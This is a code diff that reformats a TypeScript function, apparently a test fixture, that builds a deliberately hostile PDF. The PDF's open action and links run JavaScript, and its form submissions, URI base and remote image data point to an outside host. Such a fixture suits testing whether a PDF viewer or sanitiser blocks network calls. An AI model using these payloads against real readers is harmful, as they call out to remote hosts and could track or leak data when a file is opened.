@@ -16,8 +16,19 @@ export async function hostilePdf(away: string): Promise<Buffer> {
   const at = (path: string) => PDFString.of(`${away}/${path}`)
   const urlFile = (path: string) => context.obj({ Type: 'Filespec', FS: 'URL', F: at(path) })
   const link = (y: number, action: Record<string, unknown>) =>
-    context.register(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [72, y, 400, y + 14], Border: [0, 0, 1], A: { Type: 'Action', ...action } } as never))
-  const script = (path: string) => ({ S: 'JavaScript', JS: PDFString.of(`app.launchURL("${away}/${path}", true); this.submitForm("${away}/${path}"); fetch("${away}/${path}")`) })
+    context.register(
+      context.obj({
+        Type: 'Annot',
+        Subtype: 'Link',
+        Rect: [72, y, 400, y + 14],
+        Border: [0, 0, 1],
+        A: { Type: 'Action', ...action },
+      } as never),
+    )
+  const script = (path: string) => ({
+    S: 'JavaScript',
+    JS: PDFString.of(`app.launchURL("${away}/${path}", true); this.submitForm("${away}/${path}"); fetch("${away}/${path}")`),
+  })
 
   page.node.set(
     PDFName.of('Annots'),
@@ -31,7 +42,15 @@ export async function hostilePdf(away: string): Promise<Buffer> {
     ]),
   )
   const button = context.register(
-    context.obj({ Type: 'Annot', Subtype: 'Widget', FT: 'Btn', T: PDFString.of('send'), Ff: 65536, Rect: [72, 500, 200, 520], A: { S: 'SubmitForm', F: urlFile('form') } } as never),
+    context.obj({
+      Type: 'Annot',
+      Subtype: 'Widget',
+      FT: 'Btn',
+      T: PDFString.of('send'),
+      Ff: 65536,
+      Rect: [72, 500, 200, 520],
+      A: { S: 'SubmitForm', F: urlFile('form') },
+    } as never),
   )
   pdf.catalog.set(PDFName.of('AcroForm'), context.obj({ Fields: [button], NeedAppearances: true }))
   pdf.catalog.set(PDFName.of('OpenAction'), context.obj({ Type: 'Action', ...script('open') } as never))
@@ -39,7 +58,14 @@ export async function hostilePdf(away: string): Promise<Buffer> {
   pdf.catalog.set(PDFName.of('URI'), context.obj({ Base: at('base/') }))
 
   // An image whose data is said to lie on the network.
-  const image = context.stream(new Uint8Array(0), { Type: 'XObject', Subtype: 'Image', Width: 8, Height: 8, ColorSpace: 'DeviceGray', BitsPerComponent: 8 })
+  const image = context.stream(new Uint8Array(0), {
+    Type: 'XObject',
+    Subtype: 'Image',
+    Width: 8,
+    Height: 8,
+    ColorSpace: 'DeviceGray',
+    BitsPerComponent: 8,
+  })
   image.dict.set(PDFName.of('F'), urlFile('image.raw'))
   page.node.setXObject(PDFName.of('Away'), context.register(image))
   const draw = context.register(context.stream('q 100 0 0 100 300 300 cm /Away Do Q'))
